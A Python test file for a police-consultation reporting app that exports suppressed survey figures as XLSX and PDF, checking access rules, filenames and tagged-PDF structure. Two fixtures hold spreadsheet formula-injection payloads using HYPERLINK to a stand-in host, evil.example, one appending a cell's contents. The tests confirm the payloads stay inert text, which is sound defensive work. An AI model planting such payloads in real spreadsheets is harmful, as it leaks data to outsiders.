"""A report as XLSX and PDF: the same suppressed figures as the page and the CSV, for staff
from the latest count and for the public from what was published."""

from __future__ import annotations

import csv
import io
import itertools
import re
from datetime import datetime

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import update

from engage.extensions import db
from engage.reports.targets_models import ReportPublication
from engage.surveys.models import Option
from tests.factories import PASSWORD, create_admin, create_officer, create_user
from tests.helpers import page_text
from tests.reports.support import hand_worked, make_consultation, upload_population
from tests.reports.test_public_report import (
    FIGURES,
    PUBLIC,
    REPORT,
    change_after_publishing,
    counted,
    prepared,
    publish,
)

LONDON = "/staff/reports/have-your-say-2027/london"
PUBLIC_BASE = PUBLIC.removesuffix("/report")


def csv_rows(client, url: str) -> list[list[str]]:
    """The CSV's cells as a spreadsheet would show them: the XLSX stores a negative number as
    a number, where the CSV has to quote it ("'-8.8") so it is not read as a formula."""
    response = client.get(url)
    assert response.status_code == 200
    rows = csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
    return [[cell[1:] if re.fullmatch(r"'-\d+(\.\d+)?", cell) else cell for cell in row]
            for row in rows]


def shown(cell) -> str:
    """A cell as a spreadsheet shows it: numbers to their format's decimal places."""
    if isinstance(cell.value, int | float):
        places = len(cell.number_format.partition(".")[2])
        return f"{cell.value:.{places}f}"
    return "" if cell.value is None else str(cell.value)


def workbook(response):
    assert response.status_code == 200
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.data))


def sheet_rows(sheet) -> list[list[str]]:
    return [[shown(cell) for cell in row] for row in sheet.iter_rows()]


def row_for(rows: list[list[str]], category: str) -> list[str]:
    return next(row for row in rows if row[1] == category)


def pdf_text(response) -> str:
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    return re.sub(r"\s+", " ", " ".join(page.extract_text() for page in reader.pages))


def filename(response) -> str:
    return re.search(r'filename="([^"]+)"', response.headers["Content-Disposition"]).group(1)


def test_the_staff_xlsx_holds_the_csv_s_cells_with_small_numbers_hidden(app, client,
                                                                         run_tasks):
    prepared(app, client, run_tasks)
    page = client.get(REPORT).get_data(as_text=True)
    assert f'href="{REPORT}/figures.xlsx"' in page and f'href="{REPORT}/report.pdf"' in page
    expected = csv_rows(client, REPORT + "/figures.csv")
    response = client.get(REPORT + "/figures.xlsx")
    book = workbook(response)
    assert book.sheetnames == ["Figures", "Targets", "About"]
    figures = sheet_rows(book["Figures"])
    assert figures == expected
    assert row_for(figures, "Telephone")[:4] == [
        "How people answered", "Telephone", "fewer than 10", ""]
    # Numbers are numbers (a spreadsheet can add them up), shown as the CSV writes them.
    respondents = next(row for row in book["Figures"].iter_rows() if row[1].value ==
                       "All respondents")
    assert respondents[2].value == 20
    assert re.fullmatch(r"have-your-say-2027-camden-\d{4}-\d{2}-\d{2}-\d{4}\.xlsx",
                        filename(response))
    # The time in the name is London's, as the page says it: counted at 12:00 UTC in July is
    # 13:00 in London (summer time).
    from engage.extensions import db
    from engage.reports.models import ReportSnapshot
    from tests.factories import borough

    with app.app_context():
        db.session.execute(update(ReportSnapshot).where(
            ReportSnapshot.area == borough("camden").ons_code).values(
            made_at=datetime(2027, 7, 1, 12, 0)))
        db.session.commit()
    for kind in ("xlsx", "csv"):
        assert filename(client.get(f"{REPORT}/figures.{kind}")) == \
            f"have-your-say-2027-camden-2027-07-01-1300.{kind}"
    assert response.headers["Cache-Control"] == "private, no-store"
    about = dict((row[0], row[1]) for row in sheet_rows(book["About"]))
    # Marked as the staff PDF is ("Staff copy, not for publication").
    assert sheet_rows(book["About"])[0][0] == "Staff copy"
    # Every sheet says so when printed, and the workbook opens where it is said first.
    assert book.active.title == "About"
    for sheet in book.worksheets:
        assert sheet.oddHeader.center.text == "Staff copy, not for publication", sheet.title
    assert about["Staff copy"].startswith("Not for publication.")
    assert about["Area"] == "Camden"
    assert about["Consultation"] == "Have your say (have-your-say-2027)"
    assert about["Suppression threshold"] == "10"
    assert about["Respondents"] == "20"
    assert 'shown as "fewer than 10"' in about["Suppression"]


def test_the_threshold_in_force_applies_to_the_xlsx(app, client, run_tasks):
    prepared(app, client, run_tasks)
    app.config["ENGAGE_SUPPRESSION_THRESHOLD"] = 2
    figures = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])
    assert figures == csv_rows(client, REPORT + "/figures.csv")
    assert not any("fewer than" in cell for row in figures for cell in row)
    assert row_for(figures, "Telephone")[:4] == ["How people answered", "Telephone", "4", "20.0"]


def test_the_staff_pdf_shows_the_page_s_figures_on_numbered_tagged_a4_pages(app, client,
                                                                            run_tasks):
    prepared(app, client, run_tasks)
    response = client.get(REPORT + "/report.pdf")
    text = pdf_text(response)
    assert re.fullmatch(r"have-your-say-2027-camden-\d{4}-\d{2}-\d{2}-\d{4}\.pdf",
                        filename(response))
    assert "Camden: priorities report" in text
    assert "Staff copy, not for publication" in text
    # Priorities in rank order, with the hidden ones as "fewer than 10" or "not shown".
    assert "Burglary 20 100.0% 83.9% to 100.0% 2.20" in text
    assert "Anti-social behaviour fewer than 10 not shown" in text
    assert "Knife crime not shown not shown" in text
    assert "Telephone fewer than 10 not shown" in text
    # Staff see the equality tables (the public documents do not).
    assert "Ethnic group: respondents beside Camden's population" in text
    assert "Page 1 of" in text
    reader = PdfReader(io.BytesIO(response.data))
    root = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root and root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert reader.metadata.title == "Camden: Have your say (have-your-say-2027) report"
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (round(float(width)), round(float(height))) == (595, 842)  # A4 in points
    # The priorities chart is drawn in: its bar labels (share and interval) are not table text.
    assert "100.0% (83.9% to 100.0%)" in text


def test_the_london_downloads_are_for_administrators(app, client, other_client, run_tasks):
    prepared(app, client, run_tasks)
    with app.app_context():
        create_user(email="analyst@example.org", roles={"analyst": "camden"})
        create_user(email="admin@example.org", is_admin=True)
    for url in (LONDON + "/figures.xlsx", LONDON + "/report.pdf"):
        assert client.get(url).status_code == 403  # a borough officer
    other_client.sign_in("analyst@example.org", PASSWORD)
    for url in (LONDON + "/figures.xlsx", LONDON + "/report.pdf"):
        assert other_client.get(url).status_code == 403  # an analyst of one borough too
    other_client.sign_out()
    other_client.sign_in("admin@example.org", PASSWORD)
    assert other_client.get(LONDON + "/figures.xlsx").status_code == 404  # not counted yet
    token_page = other_client.get(LONDON)
    assert token_page.status_code == 200
    other_client.submit(LONDON + "/collate", form_page=LONDON)
    run_tasks()
    book = workbook(other_client.get(LONDON + "/figures.xlsx"))
    assert book.sheetnames == ["Figures", "About"]  # London has no targets
    assert sheet_rows(book["Figures"]) == csv_rows(other_client, LONDON + "/figures.csv")
    assert dict((r[0], r[1]) for r in sheet_rows(book["About"]))["Area"] == "London"
    text = pdf_text(other_client.get(LONDON + "/report.pdf"))
    assert "London: priorities report" in text
    assert "Staff copy, not for publication" in text
    # London has no targets: none of Camden's are drawn into it.
    for borough_s in ("You said, we did", "A 1.2% reduction in burglary", "against a target",
                      "The target was", "Performance against last year's targets",
                      "Residential burglary", "at most 3.8"):
        assert borough_s not in text


def test_another_boroughs_officer_cannot_download_and_nobody_signed_out_can(
        app, client, other_client, run_tasks):
    prepared(app, client, run_tasks)
    with app.app_context():
        create_officer("hackney", email="hackney@example.org")
    for url in (REPORT + "/figures.xlsx", REPORT + "/report.pdf"):
        signed_out = other_client.get(url)
        assert signed_out.status_code == 302 and "/sign-in" in signed_out.headers["Location"]
    other_client.sign_in("hackney@example.org", PASSWORD)
    for url in (REPORT + "/figures.xlsx", REPORT + "/report.pdf"):
        assert other_client.get(url).status_code == 403
    assert other_client.get(
        "/staff/boroughs/nowhere/reports/have-your-say-2027/figures.xlsx").status_code == 404


def test_public_downloads_are_not_found_until_published(app, client, other_client,
                                                        run_tasks):
    prepared(app, client, run_tasks)
    downloads = (PUBLIC_BASE + "/report.pdf", PUBLIC_BASE + "/report.xlsx",
                 PUBLIC_BASE + "/local-policing-summary.pdf")
    for url in downloads:
        assert other_client.get(url).status_code == 404
    publish(client)
    page = other_client.get(PUBLIC).get_data(as_text=True)
    for url in downloads:
        assert f'href="{url}"' in page
        assert other_client.get(url).status_code == 200
    client.submit(REPORT + "/unpublish", form_page=REPORT)
    for url in downloads:
        assert other_client.get(url).status_code == 404


def test_public_downloads_show_what_was_published_not_a_later_count(app, client, other_client,
                                                                   run_tasks):
    made = prepared(app, client, run_tasks)
    publish(client)
    change_after_publishing(app, client, made, run_tasks)
    staff = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])
    assert staff[1][:3] == ["Respondents", "All respondents", "25"]

    response = other_client.get(PUBLIC_BASE + "/report.xlsx")
    assert re.fullmatch(r"have-your-say-2027-camden-\d{4}-\d{2}-\d{2}\.xlsx",
                        filename(response))
    assert response.headers["Cache-Control"] == "public, max-age=60"
    book = workbook(response)
    public = sheet_rows(book["Figures"])
    assert public[1][:3] == ["Respondents", "All respondents", "20"]
    assert row_for(public, "Telephone")[:4] == [
        "How people answered", "Telephone", "fewer than 10", ""]
    about = dict((r[0], r[1]) for r in sheet_rows(book["About"]))
    assert "Published at" in about and about["Respondents"] == "20"
    assert "Staff copy" not in about
    assert book.active.title == "Figures"
    assert not any(sheet.oddHeader.center.text for sheet in book.worksheets)
    # Only what the public page shows: the equality tables and weekly counts stay with staff.
    assert {row[0] for row in staff} >= {"Ethnic group", "Responses by week"}
    assert not {row[0] for row in public} & {"Ethnic group", "Age band", "Disability",
                                             "Responses by week"}

    text = pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))
    assert "Camden: what you told us and what the police will do" in text
    assert "from 20 responses" in text and "25 responses" not in text
    assert "Burglary: A 1.2% reduction in burglary" in text
    assert "Knife crime not shown not shown" in text
    assert "The target was 51.4%." in text  # the pinned target, not the later 60
    assert "Residential burglary -89 (-8.8%) target achieved" in text
    assert "Gun crime +12 (+14.2%) reduce by 4.2%: target missed" in text
    assert "Ethnic group" not in text  # equality tables are for staff only
    assert "Staff copy" not in text


def test_a_report_not_counted_has_no_downloads(app, client):
    make_consultation(app)
    with app.app_context():
        create_officer("camden", email="officer@example.org")
    client.sign_in("officer@example.org", PASSWORD)
    assert "Download these figures as XLSX" not in page_text(client.get(REPORT))
    for url in (REPORT + "/figures.xlsx", REPORT + "/report.pdf"):
        assert client.get(url).status_code == 404


# Text that a spreadsheet would run: an option label typed by staff in the questionnaire builder.
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Robbery")'


def test_text_that_looks_like_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
        app, client, other_client, run_tasks):
    made = hand_worked(app)
    with app.app_context():
        db.session.execute(update(Option).where(Option.value == "robbery")
                           .values(label=FORMULA))
        db.session.commit()
        create_officer("camden", email="officer@example.org")
    client.sign_in("officer@example.org", PASSWORD)
    client.submit(REPORT + "/collate", form_page=REPORT)
    run_tasks()
    assert made.slug in filename(client.get(REPORT + "/figures.csv"))
    # The CSV has no types: the leading = is neutralised with an apostrophe (OWASP's advice).
    assert row_for(csv_rows(client, REPORT + "/figures.csv"), "'" + FORMULA)[2] == "18"
    publish(client)
    for response in (client.get(REPORT + "/figures.xlsx"),
                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
        book = workbook(response)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        # In the workbook it is a text cell, so it reads as on the page, without the
        # apostrophe, and is marked to stay text if edited.
        label = next(cell for cell in cells if cell.value == FORMULA)
        assert label.data_type == "s" and label.quotePrefix
        assert not any(str(cell.value).startswith("'") for cell in cells)


def test_control_characters_in_staff_text_do_not_break_the_xlsx(app, client, other_client,
                                                                 run_tasks):
    """A line break pasted from Word is a vertical tab, which a worksheet cannot hold: the
    population figures' source, typed by an administrator, reaches every weighted report."""
    hand_worked(app)
    with app.app_context():
        create_admin(email="admin@example.org")
        create_officer("camden", email="officer@example.org")
    other_client.sign_in("admin@example.org", PASSWORD)
    assert upload_population(other_client, source="Census 2021\x0bOffice for National "
                                                  "Statistics").status_code == 302
    client.sign_in("officer@example.org", PASSWORD)
    client.submit(REPORT + "/collate", form_page=REPORT)
    run_tasks()
    assert "Census 2021\x0bOffice" in client.get(REPORT + "/figures.csv").get_data(as_text=True)
    response = client.get(REPORT + "/figures.xlsx")
    assert response.status_code == 200
    paragraphs = [row[11] for row in sheet_rows(workbook(response)["Figures"])
                  if row[0] == "Weighting"]
    assert any("(from Census 2021 Office for National Statistics)" in p for p in paragraphs)
    # The PDF too: WeasyPrint would map the control character in the font's ToUnicode table,
    # and the document's text would then read as garbage.
    assert "(from Census 2021 Office for National Statistics)" in pdf_text(
        client.get(REPORT + "/report.pdf"))


def structure(pdf: bytes) -> list:
    """The tagged PDF's structure elements, depth first, each as (tag, its children's tags)."""
    def children(node) -> list:
        kids = node.get("/K")
        kids = kids.get_object() if hasattr(kids, "get_object") else kids
        kids = kids if isinstance(kids, list) else [] if kids is None else [kids]
        return [k.get_object() for k in kids
                if hasattr(k, "get_object") and hasattr(k.get_object(), "get")]

    found = []

    def walk(node):
        found.append((node.get("/S"), [child.get("/S") for child in children(node)]))
        for child in children(node):
            walk(child)

    walk(PdfReader(io.BytesIO(pdf)).trailer["/Root"]["/StructTreeRoot"])
    return found


def test_every_table_in_the_pdfs_keeps_its_caption_and_header_cells(app, client, other_client,
                                                                     run_tasks):
    """A caption left at the foot of a page, its table moved whole to the next, became a table
    of its own in the tagged PDF: an empty table with a caption, then a table without one."""
    prepared(app, client, run_tasks)
    publish(client)
    for response in (client.get(REPORT + "/report.pdf"),
                     other_client.get(PUBLIC_BASE + "/report.pdf"),
                     other_client.get(PUBLIC_BASE + "/local-policing-summary.pdf")):
        assert response.status_code == 200
        elements = structure(response.data)
        tables = [kids for tag, kids in elements if tag == "/Table"]
        assert tables
        for kids in tables:
            assert kids[:2] == ["/Caption", "/THead"], kids
        # Headings start at one h1 and never skip a level.
        levels = [int(tag[2]) for tag, _ in elements if re.fullmatch(r"/H\d", tag or "")]
        assert levels[0] == 1 and levels.count(1) == 1
        assert all(later <= earlier + 1 for earlier, later in itertools.pairwise(levels))


def test_public_file_names_give_the_day_it_was_published_in_london(app, client, other_client,
                                                                   run_tasks):
    """Published at 23:30 UTC on 1 July is 00:30 on 2 July in London, as the page says."""
    prepared(app, client, run_tasks)
    publish(client)
    with app.app_context():
        db.session.execute(update(ReportPublication).values(
            published_at=datetime(2027, 7, 1, 23, 30)))
        db.session.commit()
    assert "Published on 2 July 2027 at 12:30am" in page_text(other_client.get(PUBLIC))
    for kind in ("xlsx", "pdf"):
        assert filename(other_client.get(f"{PUBLIC_BASE}/report.{kind}")) == \
            f"have-your-say-2027-camden-2027-07-02.{kind}"


def test_a_withheld_headline_is_a_row_that_says_so_in_the_csv_and_xlsx(app, client, run_tasks):
    """The page says confidence is "Not shown"; the downloads said nothing at all, which reads
    as if the report had no such figure."""
    prepared(app, client, run_tasks)
    assert "Not shown: too few people answered" in page_text(client.get(REPORT))
    for rows in (csv_rows(client, REPORT + "/figures.csv"),
                 sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])):
        headlines = [row[:4] for row in rows
                     if row[1] in ("excellent or good", "very or fairly safe")]
        assert headlines == [
            ["Confidence in local policing", "excellent or good", "not shown", ""],
            ["Feeling safe", "very or fairly safe", "not shown", ""]]


def test_a_withheld_gap_reads_not_shown_in_the_csv_and_xlsx(app, client, run_tasks):
    prepared(app, client, run_tasks)
    assert "The confidence gap is not shown" in page_text(client.get(REPORT))
    for rows in (csv_rows(client, REPORT + "/figures.csv"),
                 sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])):
        assert row_for(rows, "Gap in percentage points (not weighted)")[-1] == "not shown"


def test_every_format_says_which_answers_the_headline_shares_leave_out(
        app, client, other_client, run_tasks):
    """Feeling safe leaves out "I never go out alone after dark" as well as "don't know": the
    pages and PDFs said only "don't know" was left out, so a reader working the share out
    from the table beside it got another figure."""
    prepared(app, client, run_tasks)
    publish(client)
    confidence = ('Confidence in local policing is the share answering excellent or good, of '
                  'those who gave a view: "Don\'t know" is left out.')
    safe = ('Feeling safe is the share answering very or fairly safe, of those who gave a '
            'view: "I never go out alone after dark" is left out.')
    for text in (page_text(client.get(REPORT)), page_text(other_client.get(PUBLIC)),
                 pdf_text(client.get(REPORT + "/report.pdf")),
                 pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))):
        assert confidence in text and safe in text
        assert "\"don't know\" is left out" not in text
    # And the workbooks' About sheet, beside the priorities' note.
    for response in (client.get(REPORT + "/figures.xlsx"),
                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
        about = dict(sheet_rows(workbook(response)["About"]))
        assert about["Confidence in local policing"] == confidence
        assert about["Feeling safe"] == safe
        assert about["Priorities"].startswith("Share who put it in their top 3; ranking score")


def test_the_public_xlsx_has_the_page_s_targets_and_crime_figures(app, client, other_client,
                                                                   run_tasks):
    """The page says what the police will do, confidence against its target and the crime
    figures against last year's; "the figures as a spreadsheet" had none of them. The crime
    types are as the officer's file named them, so one a spreadsheet would run stays text."""
    prepared(app, client, run_tasks)
    client.submit(REPORT + "/crime-figures", {
        "period": "2026/27", "replace": "y", "figures": (io.BytesIO(
            (FIGURES + '"=HYPERLINK(""https://evil.example/"",""Robbery"")",-3,-1.5%,,'
                       "achieved\n").encode()), "figures.csv")})
    publish(client)
    text = page_text(other_client.get(PUBLIC))
    assert "Residential burglary -89 (-8.8%) target achieved" in text
    book = workbook(other_client.get(PUBLIC_BASE + "/report.xlsx"))
    assert book.sheetnames == ["Figures", "Targets", "About"]
    sheet = book["Targets"]
    assert sheet.freeze_panes == "A2"
    assert sheet_rows(sheet) == [
        ["section", "item", "figure", "percentage change (%)", "target", "result"],
        ["You said, we did", "1. Burglary", "", "", "A 1.2% reduction in burglary", ""],
        ["Public confidence", "share who said the police do an excellent or good job (%)",
         "not shown", "", "51.4", ""],
        ["Confidence gap", "Gap in percentage points (not weighted)", "not shown", "",
         "at most 3.8", ""],
        ["Performance against targets, 2026/27", "Residential burglary", "-89", "-8.8", "",
         "target achieved"],
        ["Performance against targets, 2026/27", "Gun crime", "12", "14.2", "reduce by 4.2%",
         "target missed"],
        ["Performance against targets, 2026/27",
         '=HYPERLINK("https://evil.example/","Robbery")', "-3", "-1.5", "",
         "target achieved"]]
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert cells["C5"].value == -89 and cells["D5"].value == -8.8  # numbers, not text
    assert cells["B7"].data_type == "s" and cells["B7"].quotePrefix
    assert not [c for c in cells.values() if c.data_type == "f"]


TARGETS_HEADER = ["section", "item", "figure", "percentage change (%)", "target", "result"]
WITHHELD_CONFIDENCE = ["Public confidence",
                       "share who said the police do an excellent or good job (%)", "not shown"]


def test_the_staff_xlsx_has_the_borough_s_targets_as_they_stand(app, client, other_client,
                                                                run_tasks):
    """The staff page shows the targets and crime figures beside the figures; the analyst's
    spreadsheet had none of them. It has them as they stand now, where the public one keeps
    what was published."""
    made = prepared(app, client, run_tasks)  # an officer sets them through the staff pages
    with app.app_context():
        create_user(email="analyst@example.org", roles={"analyst": "camden"})
    other_client.sign_in("analyst@example.org", PASSWORD)
    book = workbook(other_client.get(REPORT + "/figures.xlsx"))
    assert book.sheetnames == ["Figures", "Targets", "About"]
    staff = sheet_rows(book["Targets"])
    assert staff == [
        TARGETS_HEADER,
        ["You said, we did", "1. Burglary", "", "", "A 1.2% reduction in burglary", ""],
        [*WITHHELD_CONFIDENCE, "", "51.4", ""],
        ["Confidence gap", "Gap in percentage points (not weighted)", "not shown", "",
         "at most 3.8", ""],
        ["Performance against targets, 2026/27", "Residential burglary", "-89", "-8.8", "",
         "target achieved"],
        ["Performance against targets, 2026/27", "Gun crime", "12", "14.2", "reduce by 4.2%",
         "target missed"]]
    assert book["Targets"].freeze_panes == "A2"
    # Published now, the public sheet reads the same.
    publish(client)
    other_client.sign_out()
    assert sheet_rows(workbook(other_client.get(PUBLIC_BASE + "/report.xlsx"))["Targets"]) \
        == staff

    # Changed after publishing (confidence 60, no gap target): staff see it, the public not.
    change_after_publishing(app, client, made, run_tasks)
    later = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Targets"])
    assert "against a target of 60.0%" in page_text(client.get(REPORT))  # as the page says
    assert [*WITHHELD_CONFIDENCE, "", "60.0", ""] in later
    assert not [row for row in later if row[0] == "Confidence gap"]
    public = sheet_rows(workbook(other_client.get(PUBLIC_BASE + "/report.xlsx"))["Targets"])
    assert [*WITHHELD_CONFIDENCE, "", "51.4", ""] in public


def test_a_borough_without_targets_has_the_sheet_the_public_one_would(app, client,
                                                                    other_client, run_tasks):
    """Nothing set: as in a publication with nothing set, the sheet gives confidence with no
    target beside it, and nothing else."""
    counted(app, client, run_tasks)
    assert "no target set" in page_text(client.get(REPORT))
    staff = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Targets"])
    assert staff == [TARGETS_HEADER, [*WITHHELD_CONFIDENCE, "", "", ""]]
    publish(client)
    assert sheet_rows(workbook(other_client.get(PUBLIC_BASE + "/report.xlsx"))["Targets"]) \
        == staff


def test_the_staff_targets_sheet_hides_what_the_page_hides(app, client, run_tasks):
    """Confidence and the gap beside their targets only where the page shows them, with the
    threshold in force; shown, with the same share and result as the page."""
    prepared(app, client, run_tasks)
    client.submit(REPORT + "/targets", {"confidence_target": "51.4", "gap_target": "3.8",
                                        "feeling_safe_target": "40"})
    text = page_text(client.get(REPORT))
    assert "Not shown (too few answers to show without identifying anyone)" in text
    rows = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Targets"])
    assert [row[:3] for row in rows if row[0] in ("Public confidence", "Feeling safe",
                                                  "Confidence gap")] == [
        WITHHELD_CONFIDENCE,
        ["Feeling safe", "share who said they feel very or fairly safe (%)", "not shown"],
        ["Confidence gap", "Gap in percentage points (not weighted)", "not shown"]]
    assert not [row for row in rows if row[5] in ("met", "not met")]

    app.config["ENGAGE_SUPPRESSION_THRESHOLD"] = 2
    text = page_text(client.get(REPORT))
    rows = sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Targets"])
    for title, said in (("Public confidence", "said excellent or good"),
                        ("Feeling safe", "said very or fairly safe")):
        row = next(row for row in rows if row[0] == title)
        shown_on_page = re.search(rf"(\d+\.\d)% {said}, against a target of "
                                  rf"{re.escape(row[4])}%: target (met|not met)", text)
        assert shown_on_page, (title, text)
        assert row[2] == shown_on_page.group(1) and row[5] == shown_on_page.group(2)


def test_staff_who_read_no_reports_get_no_targets(app, client, other_client, run_tasks):
    prepared(app, client, run_tasks)
    with app.app_context():
        create_user(email="interviewer@example.org", roles={"interviewer": "camden"})
        create_user(email="clerk@example.org", roles={"clerk": "camden"})
        create_user(email="hackney@example.org", roles={"analyst": "hackney"})
    for email in ("interviewer@example.org", "clerk@example.org", "hackney@example.org"):
        other_client.sign_in(email, PASSWORD)
        for url in ("figures.xlsx", "figures.csv", "report.pdf"):
            assert other_client.get(f"{REPORT}/{url}").status_code == 403
        other_client.sign_out()


def against_targets(text: str) -> list[str]:
    """What a PDF says of confidence and feeling safe beside their targets: the sentences and
    the rows of the tables beside the charts."""
    return re.findall(r"(?:\d+\.\d% of people who gave a view said [^.]*, against a target of "
                      r"\d+\.\d%: the target was (?:met|not met)\.|Not shown: too few people "
                      r"answered, or too few gave one of the answers, to show it without "
                      r"identifying anyone\. "
                      r"The target was \d+\.\d%\.|(?:Public confidence|Feeling safe), against a "
                      r"target of \d+\.\d% \d+\.\d% Target (?:met|not met))", text)


CRIME_ROWS = ("Residential burglary -89 (-8.8%) target achieved",
              "Gun crime +12 (+14.2%) reduce by 4.2%: target missed")


def test_the_staff_pdf_has_the_borough_s_targets_as_they_stand(app, client, other_client,
                                                               run_tasks):
    """The staff PDF took only the gap target: no confidence target, crime figures or next
    year's priorities, which the public PDF has. It has them as they stand, drawn as the public
    PDF would draw them if published now, and still marked as the staff copy."""
    made = prepared(app, client, run_tasks)  # an officer sets them through the staff pages
    with app.app_context():
        create_user(email="analyst@example.org", roles={"analyst": "camden"})
    other_client.sign_in("analyst@example.org", PASSWORD)
    staff = pdf_text(other_client.get(REPORT + "/report.pdf"))
    assert "Camden: priorities report" in staff
    assert "Staff copy, not for publication" in staff
    assert "You said, we did The police's priorities for next year, set from what people " \
           "told us, most important first: Burglary: A 1.2% reduction in burglary" in staff
    # Confidence rests on 10 against 6: withheld, as on the page, with its target said.
    assert "Not shown: too few people answered, or too few gave one of the answers, to show " \
           "it without identifying anyone. The target was 51.4%." in staff
    assert "at most 3.8 percentage points" in staff
    assert "Performance against last year's targets The change in the number of offences " \
           "recorded in 2026/27" in staff
    for row in CRIME_ROWS:
        assert row in staff
    # The staff copy still has what the public one leaves out.
    assert "Ethnic group: respondents beside Camden's population" in staff

    # Published now, the public PDF says the same of them.
    publish(client)
    public = pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))
    assert "Burglary: A 1.2% reduction in burglary" in public
    for row in CRIME_ROWS:
        assert row in public
    assert against_targets(public) == against_targets(staff) == [
        "Not shown: too few people answered, or too few gave one of the answers, to show it "
        "without identifying anyone. The target was 51.4%."]
    assert "at most 3.8 percentage points" in public

    # Changed after publishing (confidence 60, no gap target): staff see it, the public not.
    change_after_publishing(app, client, made, run_tasks)
    client.submit(REPORT + "/you-said-we-did", {"priority": "robbery",
                                                "target": "Fewer street robberies"})
    later = pdf_text(other_client.get(REPORT + "/report.pdf"))
    assert "The target was 60.0%." in later and "The target was 51.4%." not in later
    assert "at most 3.8" not in later
    assert "Robbery: Fewer street robberies" in later
    public = pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))
    assert "The target was 51.4%." in public and "Fewer street robberies" not in public


def test_a_borough_without_targets_has_a_staff_pdf_saying_what_is_missing(
        app, client, other_client, run_tasks):
    counted(app, client, run_tasks)
    staff = " ".join(pdf_text(client.get(REPORT + "/report.pdf")).split())
    # Staff are told what is not recorded yet, and what the public report would say of it.
    assert ("No priorities for next year are recorded yet. Until they are, the published report "
            "will say they have not been published yet.") in staff
    assert ("No crime figures are uploaded for this report yet. Until they are, the published "
            "report will say the borough has not published them.") in staff
    assert "against a target" not in staff and "The target was" not in staff


def test_the_staff_pdf_hides_beside_the_targets_what_the_page_hides(app, client, other_client,
                                                                    run_tasks):
    """Targets are staff's own words; the shares beside them are the survey's, shown or
    withheld exactly as the page shows them, with the threshold in force."""
    prepared(app, client, run_tasks)
    client.submit(REPORT + "/targets", {"confidence_target": "51.4", "gap_target": "3.8",
                                        "feeling_safe_target": "95"})
    page = page_text(client.get(REPORT))
    assert page.count("Not shown (too few answers to show without identifying anyone)") == 2
    text = pdf_text(client.get(REPORT + "/report.pdf"))
    assert "The target was 51.4%." in text
    assert "Feeling safe: Not shown: too few people answered, or too few gave one of the " \
           "answers, to show it without identifying anyone. The target was 95.0%." in text
    assert "the target was met" not in text and "the target was not met" not in text
    assert "The confidence gap is not shown" in text

    app.config["ENGAGE_SUPPRESSION_THRESHOLD"] = 2
    page = page_text(client.get(REPORT))
    text = pdf_text(client.get(REPORT + "/report.pdf"))
    for said_page, said_pdf in (
            ("said excellent or good", "said the police do an excellent or good job"),
            ("said very or fairly safe", "said they feel very or fairly safe")):
        on_page = re.search(rf"(\d+\.\d)% {said_page}, against a target of (\d+\.\d)%: "
                            r"target (met|not met)", page)
        assert on_page, page
        share, target, result = on_page.groups()
        assert (f"{share}% of people who gave a view {said_pdf}, against a target of "
                f"{target}%: the target was {result}") in text
    # And as the public PDF will say it, once published.
    publish(client)
    public = pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))
    assert against_targets(public) == against_targets(text)
    assert len(against_targets(text)) == 4  # two sentences, two rows


def test_long_sections_and_categories_wrap_in_their_columns(app, client, other_client,
                                                            run_tasks):
    prepared(app, client, run_tasks)
    publish(client)
    for response in (client.get(REPORT + "/figures.xlsx"),
                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
        book = workbook(response)
        long = []
        for sheet in (book["Figures"], book["Targets"]):
            for row in list(sheet.iter_rows())[1:]:
                for cell in row[:2]:
                    width = sheet.column_dimensions[cell.column_letter].width
                    if isinstance(cell.value, str) and len(cell.value) > width:
                        long.append(cell)
                # The figures beside a wrapped category line up with its first line.
                assert {cell.alignment.vertical for cell in row} == {"top"}
        # "Black and minority ethnic respondents: excellent or good, of those with a view",
        # "share who said the police do an excellent or good job (%)", and so on: cut off
        # where the next column's figure starts, unless they wrap.
        assert len(long) >= 3
        assert all(cell.alignment.wrap_text for cell in long), [c.value for c in long]
